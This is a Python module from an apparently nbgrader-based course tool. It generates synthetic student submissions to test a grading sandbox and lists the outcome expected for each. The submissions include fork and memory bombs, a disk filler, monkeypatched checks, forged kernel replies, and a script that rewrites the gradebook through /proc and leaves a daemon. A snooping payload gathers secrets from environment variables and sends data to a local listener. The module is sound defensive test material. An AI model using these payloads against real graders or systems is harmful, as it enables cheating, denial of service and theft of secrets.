"""A demo class: synthetic submissions that exercise everything that can go wrong in grading.

``genlab demo`` (``make demo-grade``) builds a course in ``build/demo-class`` from this repository,
writes one submission per case below (made from the release notebooks plus small code snippets,
so nothing large is committed), grades it with short demo limits, writes feedback and prints
the class table. :data:`EXPECTED` says what each row must show; the tests check it.
"""

from __future__ import annotations

import copy
import re
import shutil
import socket
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from genlab.classroom import grading
from genlab.classroom.limits import GB, Limits
from genlab.classroom.steps import copy_sources, feedback, format_table, grade, release

CHAPTERS = ("00_jax_primer", "01_gan_math")

# Demo limits: loops are cut after 45 s (00: short enough for a quick demo, long enough for a
# correct cell's first compilation on a loaded machine; the CI runs two test workers beside the
# demo's two graders) and a gradual memory bomb stops at 6 GB of address space (a chapter's
# kernel maps about 2.5 GB, 1.1 GB resident).
# A fork bomb stops at 256 processes and threads (a chapter's grading uses about 60-100 on
# 2 cores), a file written past 256 MB in /tmp fails.
# 01's cell limit is longer: its training cells run longer than any of 00's.
LIMITS = {
    chapter: Limits(
        cell_seconds=cell_seconds,
        notebook_seconds=900,
        memory_bytes=6 * GB,
        processes=256,
        tmp_bytes=256 << 20,
    )  # fmt: skip
    for chapter, cell_seconds in (("00_jax_primer", 45), ("01_gan_math", 120))
}

NAIVE_LOGSUMEXP = "def logsumexp(x, axis=-1):\n    return jnp.log(jnp.sum(jnp.exp(x), axis=axis))"
HALF_MSE_GRAD = "def mse_grad(w, x, y):\n    return x.T @ (x @ w - y) / x.shape[0]"
PYTHON_LOOP = "def per_example_grads(w, x, y):\n    while True:\n        pass"
JIT_LOOP = (
    "def mse_grad(w, x, y):\n"
    "    forever = jax.lax.while_loop(lambda c: True, lambda c: c + 1, 0)\n"
    "    return jax.jit(lambda: forever)()"
)
MEMORY_BOMB = (
    "def sample_mixture(key, means, stds, n):\n"
    "    hog = []\n"
    "    while True:  # grows by 100 MB until something gives\n"
    "        hog.append(bytearray(10**8))"
)
OS_EXIT = (
    '@functools.partial(jax.jit, static_argnames="n")\n'
    "def power_sum(x, n):\n"
    "    import os\n"
    "    os._exit(1)  # kills the kernel while jit traces it"
)
HUGE_OUTPUT = (
    "def noisy_copies(key, x, num_copies):\n"
    '    print("spam " * 2_000_000)  # 10 MB per call\n'
    "    keys = jax.random.split(key, num_copies)\n"
    "    return x + jax.vmap(lambda k: jax.random.normal(k, x.shape, x.dtype))(keys)"
)
# The sandbox's caps: processes (children that sleep, until fork fails) and the size of /tmp.
FORK_BOMB = (
    '@functools.partial(jax.jit, static_argnames="n")\n'
    "def power_sum(x, n):  # the visible checks want it jitted; tracing runs the bomb\n"
    "    import os, time\n"
    "    while True:  # forks until the process limit stops it\n"
    "        if os.fork() == 0:\n"
    "            time.sleep(600)\n"
    "            os._exit(0)"
)
FILL_TMP = (
    "import tempfile\n\n"
    "def sample_mixture(key, means, stds, n):\n"
    "    with tempfile.TemporaryFile() as f:  # in TMPDIR, the sandbox's size-limited /tmp\n"
    "        while True:\n"
    "            f.write(bytes(1 << 24))\n"
    "            f.flush()"
)
CHEAT = (
    "jnp.allclose = lambda *a, **k: True  # the classic cheat\n"
    "np.allclose = lambda *a, **k: True\n" + NAIVE_LOGSUMEXP
)
WRONG_BCE = (
    "def bce_with_logits(logits, labels):\n"
    "    return -(labels * jax.nn.log_sigmoid(-logits) + (1 - labels) * jax.nn.log_sigmoid(logits))"
)
CHEAT_GAN = "jnp.allclose = lambda *a, **k: True\n" + WRONG_BCE

# --- attacks: one submission per row of the threat model (README, "For instructors") ----------
# Calling the library's reference from the answer, six ways; the probes catch the call.
CALL_REFERENCE = {
    "logsumexp": "def logsumexp(x, axis=-1):\n"
    "    from genlab.primer import logsumexp as reference\n"
    "    return reference(x, axis=axis)",
    "sample_mixture": "import importlib\n\ndef sample_mixture(key, means, stds, n):\n"
    '    module = importlib.import_module("genlab." + "primer")\n'
    "    return module.sample_mixture(key, means, stds, n)",
    "mse_grad": "def mse_grad(w, x, y):\n"
    '    return __import__("genlab.primer", fromlist=["_"]).mse_grad(w, x, y)',
    "per_example_grads": "import sys\nimport genlab.probes\n\ndef per_example_grads(w, x, y):\n"
    '    return sys.modules["genlab.primer"].per_example_grads(w, x, y)',
    "power_sum": 'power_sum = getattr(getattr(__import__("genlab.primer"), "pri" + "mer"), '
    '"power_" + "sum")',
    "noisy_copies": "import base64\n"
    'exec(base64.b64decode("ZnJvbSBnZW5sYWIucHJpbWVyIGltcG9ydCBub2lzeV9jb3BpZXM="))',
}
# Copying the reference's source at run time; nothing can stop it, the scan flags it.
COPY_REFERENCE = {
    "logsumexp": "import inspect\nimport genlab.primer as _p\n_ns = dict(vars(_p))\n"
    "exec(inspect.getsource(_p.logsumexp), _ns)\nlogsumexp = _ns['logsumexp']",
    "mse_grad": "import genlab.primer\n_ns = {}\n"
    "exec(compile(open(genlab.primer.__file__).read(), 'copy', 'exec'), _ns)\n"
    "mse_grad = _ns['mse_grad']",
    "per_example_grads": "import pkgutil\n_ns = {}\n"
    "exec(pkgutil.get_data('genlab', 'primer.py').decode(), _ns)\n"
    "per_example_grads = _ns['per_example_grads']",
    "noisy_copies": "import linecache\nimport genlab.primer\n_ns = {}\n"
    "exec(''.join(linecache.getlines(genlab.primer.__file__)), _ns)\n"
    "noisy_copies = _ns['noisy_copies']",
}
# Wrong answers that also replace the reference they are compared with, five ways.
VARIANCE_AS_STD = (
    "def sample_mixture(key, means, stds, n):\n"
    "    k_component, k_noise = jax.random.split(key)\n"
    "    components = jax.random.randint(k_component, (n,), 0, means.shape[0])\n"
    "    return means[components] + stds[components] ** 2 * jax.random.normal(k_noise, (n,))\n"
)
REPLACE_REFERENCE = {
    "logsumexp": NAIVE_LOGSUMEXP + "\n\nfrom genlab import primer\nprimer.logsumexp = logsumexp",
    "sample_mixture": VARIANCE_AS_STD + 'setattr(__import__("genlab.primer", fromlist=["_"]), '
    '"sample_" + "mixture", sample_mixture)',
    "mse_grad": HALF_MSE_GRAD + '\nimport sys\nsys.modules["genlab.primer"].__dict__["mse_grad"]'
    " = mse_grad",
    "per_example_grads": "def per_example_grads(w, x, y):\n    return x * (x @ w - y)[:, None]\n"
    "import genlab.primer\n"
    'vars(genlab.primer)["per_example_grads"] = per_example_grads',
    "power_sum": '@functools.partial(jax.jit, static_argnames="n")\ndef power_sum(x, n):\n'
    "    return sum(x**k for k in range(1, n))\n"
    "import genlab.primer\n"
    "genlab.primer.power_sum.__wrapped__.__code__ = power_sum.__wrapped__.__code__",
}
# Patching the checks and NumPy in ways an older scan missed (an untouched notebook otherwise).
PATCH_CHECKS = (
    'setattr(__import__("genlab.check", fromlist=["_"]), "all" + "close", lambda *a, **k: None)\n'
    'exec("check.equal = lambda *a, **k: None")\n'
    "class check:\n"
    "    allclose = shape = dtype = finite = equal = is_true = staticmethod(lambda *a, **k: None)\n"
    "np.where = lambda *a, **k: 0\n"
    "%time jnp.allclose = lambda *a, **k: True\n" + NAIVE_LOGSUMEXP
)
# Replies forged by the kernel: the test cells "pass" without running.
FORGE_REPLIES = (
    "_kernel = get_ipython().kernel\n_run = _kernel.do_execute\n\n"
    "def _always_ok(code, silent, *args, **kwargs):\n"
    '    if "check." in code:\n'
    '        return {"status": "ok", "execution_count": _kernel.execution_count, "payload": [],\n'
    '                "user_expressions": {}}\n'
    "    return _run(code, silent, *args, **kwargs)\n\n"
    "_kernel.do_execute = _always_ok\n" + NAIVE_LOGSUMEXP
)
BLANK_TESTS = (
    "import os\n\ndef _blank(lines):\n"
    '    graded = os.environ.get("NBGRADER_EXECUTION") == "autograde"\n'
    '    return [] if graded and any("check." in line for line in lines) else lines\n\n'
    "get_ipython().input_transformers_cleanup.append(_blank)\n" + NAIVE_LOGSUMEXP
)
# Rewriting the gradebook found through /proc, erasing the evidence, leaving a daemon behind.
DAEMON_MARK = "genlab-demo-daemon"
GRADEBOOK = (
    "import glob, os, shutil, sqlite3, sys\n"
    "courses = set()\n"
    'for pid in filter(str.isdigit, os.listdir("/proc")):\n'
    "    try:\n"
    '        cwd = os.readlink(f"/proc/{pid}/cwd")\n'
    "    except OSError:\n"
    "        continue\n"
    '    if os.path.exists(os.path.join(cwd, "gradebook.db")):\n'
    "        courses.add(cwd)\n"
    "for course in courses:\n"
    "    try:\n"
    '        db = sqlite3.connect(os.path.join(course, "gradebook.db"))\n'
    '        db.execute("UPDATE grade SET manual_score = 0")\n'
    '        db.execute("UPDATE grade SET manual_score = max_score WHERE notebook_id IN (SELECT '
    "sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
    "WHERE sa.student_id = 'gradebook')\")\n"
    "        db.commit()\n"
    "    except Exception as error:\n"
    '        print("gradebook:", error)\n'
    '    for release in glob.glob(os.path.join(course, "*", "00_jax_primer", "*.ipynb")):\n'
    "        try:\n"
    '            shutil.copy(release, os.path.join(course, "submitted", "gradebook", '
    '"00_jax_primer"))\n'
    "        except Exception:\n"
    "            pass\n"
    "if os.fork() == 0:\n"
    "    os.setsid()\n"
    "    if os.fork() == 0:\n"
    '        os.execv(sys.executable, [sys.executable, "-c", "import time\\nwhile True: '
    f'time.sleep(1)", "{DAEMON_MARK}"])\n'
    "    os._exit(0)\n"
    "os.wait()\n" + NAIVE_LOGSUMEXP
)
# Reading what is not the student's: solutions, classmates, the instructor's environment, the
# network, the library's files. {port} is a listener the demo opens on the grader's 127.0.0.1.
SECRET_NAME, PWNED = "GENLAB_DEMO_INSTRUCTOR_TOKEN", "pwned-by-demo-snoop"
SNOOP = (
    "import glob, os, socket, sys\nimport genlab\n"
    "seen = {}\n"
    'places = ["/work", "/root", "/home", "/tmp", "/srv", "..", "../..", "../../..",\n'
    '          "/proc/*/cwd"]\n'
    'seen["solutions"] = [p for d in places for p in glob.glob(d + "/**/solutions/*/*.ipynb", '
    "recursive=True)][:5]\n"
    'seen["classmates"] = [p for d in places for p in glob.glob(d + "/**/submitted/*/*/*.ipynb", '
    'recursive=True) if "/snoop/" not in p][:5]\n'
    'seen["environment"] = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}\n'
    "try:\n"
    '    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"hidden tests")\n'
    '    seen["network"] = "sent"\n'
    "except OSError as error:\n"
    '    seen["network"] = type(error).__name__\n'
    "for folder in (os.path.dirname(genlab.__file__), sys.prefix):\n"
    "    try:\n"
    f'        open(os.path.join(folder, "{PWNED}"), "w").write("x")\n'
    '        seen[folder] = "written"\n'
    "    except OSError as error:\n"
    "        seen[folder] = type(error).__name__\n"
    'print("SNOOP", seen)\n' + NAIVE_LOGSUMEXP
)

# The probes' own API, three routes (issue: the reference's outputs through genlab.probing).
# 1. Read the exercise's seed before its probe, compute the reference's outputs on the hidden
#    cases and replay them: the seed is consumed by whoever reads it first, so the probe records
#    a flag (and the scan flags the import).
SEED_REPLAY = (
    "from genlab import probing\n"
    "import numpy as np\n"
    '_spec = probing.probes_for("00_jax_primer")["logsumexp"]\n'
    '_seed = probing.take_seed("logsumexp")\n'
    "_answers = {}\n"
    "for _case in probing.make_cases(_spec, _seed if _seed is not None else 0):\n"
    "    _case.run(lambda x, axis=-1: _answers.setdefault(\n"
    "        (np.asarray(x).tobytes(), np.shape(x), axis), _spec.reference(x, axis=axis)))\n\n"
    "def logsumexp(x, axis=-1):\n"
    "    key = (np.asarray(x).tobytes(), np.shape(x), axis)\n"
    "    if key in _answers:\n"
    "        return _answers[key]\n"
    "    return jnp.log(jnp.sum(jnp.exp(x), axis=axis))"
)
# 2. Call the reference from a worker thread started before the probe (no profile hook there):
#    while probed, the reference's code is a flagging trampoline in every thread.
THREAD_REFERENCE = (
    "import queue, threading\n"
    "from genlab import probing\n"
    '_reference = probing.probes_for("00_jax_primer")["mse_grad"].reference\n'
    "_requests, _replies = queue.Queue(), queue.Queue()\n\n"
    "def _worker():\n"
    "    while True:\n"
    "        _replies.put(_reference(*_requests.get()))\n\n"
    "threading.Thread(target=_worker, daemon=True).start()\n\n"
    "def mse_grad(w, x, y):\n"
    "    _requests.put((w, x, y))\n"
    "    return _replies.get()"
)
# 3. After an exercise's test cell, (re)write its records with the reference's outputs (the seed
#    from the records, or from the pipe when the cell stopped before its probe): the grader keeps
#    the digest the probe reported, so records changed later, or made without a probe, show.
REWRITE_RECORDS = (
    "import json, os\n"
    "from pathlib import Path\n"
    "from genlab import probing\n"
    "_folder = Path(os.environ.get(probing.RECORD_DIR_ENV, 'no-records'))\n"
    "_written = _folder / 'logsumexp.json'\n"
    "if _folder.is_dir():  # the seed from the probe's records, or, if it never ran, its pipe\n"
    "    _seed = json.loads(_written.read_text())['seed'] if _written.exists() else None\n"
    "    _seed = probing.take_seed('logsumexp') if _seed is None else _seed\n"
    '    _spec = probing.probes_for("00_jax_primer")["logsumexp"]\n'
    "    _cases = probing.make_cases(_spec, _seed)\n"
    "    probing.write_records(_folder, 'logsumexp', _seed,\n"
    "                          probing.run_cases(_spec.reference, _cases), [])\n\n"
    "def mse_grad(w, x, y):\n"
    "    return 2 * x.T @ (x @ w - y) / x.shape[0]"
)


def displayhook_stubs(release_nb) -> dict[str, str]:
    """Every stub of the release with ``sys.displayhook`` forging a result before it raises."""
    answers = {}
    for name in grading.exercise_names(release_nb):
        source = grading.graded_cells(release_nb)[name].source
        answers[name] = re.sub(
            r"^(\s*)raise NotImplementedError\(\)",
            r'\1__import__("sys").displayhook(2.0)\n\1raise NotImplementedError()',
            source, flags=re.M,
        )  # fmt: skip
    return answers


@dataclass(frozen=True)
class Expected:
    """What a demo row must show: ``zero`` are the test cells that lose all points (None: every
    cell); every other cell keeps full marks. ``reason``: a substring of the row's reasons."""

    zero: tuple[str, ...] | None = ()
    reason: str = ""
    flagged: bool = False
    status: str = "graded"


# {chapter: {student: (answers to replace {name: source}, notebook surgery, expected)}}
CASES = {
    "00_jax_primer": {
        "correct": ({}, None, Expected()),
        "partial": ({"logsumexp": NAIVE_LOGSUMEXP, "mse_grad": HALF_MSE_GRAD}, None,
                    Expected(("test_logsumexp", "test_mse_grad"))),
        "untouched": (None, None, Expected(None)),
        "broken_json": ({}, "broken_json", Expected(None, "not a readable notebook",
                                                    status="failed")),
        "deleted_tests": ({}, "delete", Expected((), "deleted cells restored")),
        "duplicated_tests": ({}, "duplicate", Expected((), "duplicated cells dropped")),
        "python_loop": ({"per_example_grads": PYTHON_LOOP}, None,
                        Expected(("test_per_example_grads",), "cell time limit")),
        "jit_loop": ({"mse_grad": JIT_LOOP}, None, Expected(("test_mse_grad",), "cell time limit")),
        "memory_bomb": ({"sample_mixture": MEMORY_BOMB}, None,
                        Expected(("test_sample_mixture",), "memory")),
        "os_exit": ({"power_sum": OS_EXIT}, None, Expected(("test_power_sum",), "kernel died")),
        "huge_output": ({"noisy_copies": HUGE_OUTPUT}, None, Expected((), "output truncated")),
        "fork_bomb": ({"power_sum": FORK_BOMB}, None,
                      Expected(("test_power_sum",), "process limit reached", flagged=True)),
        "fill_tmp": ({"sample_mixture": FILL_TMP}, None,
                     Expected(("test_sample_mixture",), "scratch disk full")),
        "cheat": ({"logsumexp": CHEAT}, None,
                  Expected(("test_logsumexp",), "", flagged=True)),
        # The threat model, one row each (README): forging never scores, nothing escapes the
        # sandbox, calling or copying the library is flagged.
        "call_reference": (CALL_REFERENCE, None, Expected(tuple(
            f"test_{name}" for name in CALL_REFERENCE), flagged=True)),
        # A copy compiled from the module's own source has the reference's code objects, so the
        # probes catch three of these; the copy of one function passes, flagged by the scan.
        "copy_reference": (COPY_REFERENCE, None, Expected(
            ("test_mse_grad", "test_per_example_grads", "test_noisy_copies"), flagged=True)),
        "replace_reference": (REPLACE_REFERENCE, None, Expected(tuple(
            f"test_{name}" for name in REPLACE_REFERENCE), flagged=True)),
        "patch_checks": ({"logsumexp": PATCH_CHECKS}, "untouched", Expected(None, flagged=True)),
        "displayhook": ({}, "displayhook", Expected(None, flagged=True)),
        "forge_replies": ({"logsumexp": FORGE_REPLIES}, "untouched", Expected(None, flagged=True)),
        "blank_tests": ({"logsumexp": BLANK_TESTS}, "untouched", Expected(None, flagged=True)),
        "gradebook": ({"logsumexp": GRADEBOOK}, "untouched", Expected(None, flagged=True)),
        "snoop": ({"logsumexp": SNOOP}, "untouched", Expected(None, flagged=True)),
        # The probes' own API (seed, reference, records): 0 on that exercise, flagged.
        "seed_replay": ({"logsumexp": SEED_REPLAY}, None,
                        Expected(("test_logsumexp",), flagged=True)),
        "thread_reference": ({"mse_grad": THREAD_REFERENCE}, None,
                             Expected(("test_mse_grad",), flagged=True)),
        "rewrite_records": ({"logsumexp": NAIVE_LOGSUMEXP, "mse_grad": REWRITE_RECORDS}, None,
                            Expected(("test_logsumexp",), flagged=True)),
    },
    "01_gan_math": {
        "correct": ({}, None, Expected()),
        "partial": ({"bce_with_logits": WRONG_BCE}, None, Expected(("test_bce_with_logits",))),
        "broken_json": ({}, "broken_json", Expected(None, "not a readable notebook",
                                                    status="failed")),
        "cheat": ({"bce_with_logits": CHEAT_GAN}, None,
                  Expected(("test_bce_with_logits",), flagged=True)),
    },
}  # fmt: skip


def _surgery(nb, how: str | None):
    nb = copy.deepcopy(nb)
    cells = grading.graded_cells(nb)
    if how == "delete":  # a student deleted two test cells
        drop = {id(cells["test_logsumexp"]), id(cells["test_noisy_copies"])}
        nb.cells = [c for c in nb.cells if id(c) not in drop]
    elif how == "duplicate":  # ... or copied one (same grade_id twice)
        index = nb.cells.index(cells["test_mse_grad"])
        twin = copy.deepcopy(nb.cells[index])
        twin.id = twin.get("id", "cell") + "-copy"
        nb.cells.insert(index + 1, twin)
    return nb


def write_submissions(root: Path, chapter: str, cases: dict | None = None, *,
                      port: int = 9) -> list[str]:  # fmt: skip
    """Write the demo submissions of ``chapter`` into ``root/submitted``; return the students.

    ``port``: where the snooping submission tries to send the hidden tests.
    """
    cases = CASES[chapter] if cases is None else cases
    name = f"{chapter}.ipynb"
    release_dir = root / "chapters" / chapter
    release_nb = nbformat.read(release_dir / name, as_version=4)
    solution_nb = nbformat.read(root / "solutions" / chapter / name, as_version=4)
    filled = grading.fill_answers(release_nb, solution_nb)
    for student, (answers, how, _) in cases.items():
        folder = root / "submitted" / student / chapter
        if folder.exists():
            shutil.rmtree(folder)
        shutil.copytree(release_dir, folder)
        if how == "broken_json":
            (folder / name).write_text('{"cells": [ this is not json', encoding="utf-8")
            continue
        nb = release_nb if answers is None or how in ("untouched", "displayhook") else filled
        if how == "displayhook":
            answers = displayhook_stubs(release_nb)
        for function, source in (answers or {}).items():
            nb = grading.replace_answer(nb, function, source.replace("{port}", str(port)))
        nbformat.write(_surgery(nb, how), folder / name)
    return list(cases)


def make_course(root: Path, repo: Path, chapters=CHAPTERS) -> Path:
    """A course folder with this repository's config and the chapters' sources, released."""
    copy_sources(root, repo, chapters)
    for chapter in chapters:
        release(root, chapter)
    return root


@dataclass
class DemoResult:
    """The graded demo class; ``received`` is what reached the listener on the grader's
    127.0.0.1 (nothing, when the sandbox holds)."""

    root: Path
    rows: list = field(default_factory=list)
    received: bytes = b""

    @property
    def table(self) -> str:
        return format_table(self.rows)


def run_demo(root: Path, repo: Path, *, chapters=CHAPTERS, workers: int = 2,
             progress: bool = True) -> DemoResult:  # fmt: skip
    """Build, grade and give feedback on the demo class; return its rows.

    While it grades, a listener on the grader's 127.0.0.1 waits for the snooping submission.
    """
    make_course(root, repo, chapters)
    result = DemoResult(root)
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.setblocking(False)
        for chapter in chapters:
            write_submissions(root, chapter, port=listener.getsockname()[1])
            result.rows += grade(root, chapter, workers=workers, limits=LIMITS[chapter],
                                 progress=progress)  # fmt: skip
            feedback(root, chapter)
        result.received = _drain(listener)
    return result


def _drain(listener: socket.socket) -> bytes:
    """Everything sent to ``listener`` so far (it never blocks)."""
    received = b""
    while True:
        try:
            connection, _ = listener.accept()
        except BlockingIOError:
            return received
        with connection:
            connection.settimeout(1)
            try:
                received += connection.recv(1 << 16) or b"(connected)"
            except OSError:
                received += b"(connected)"
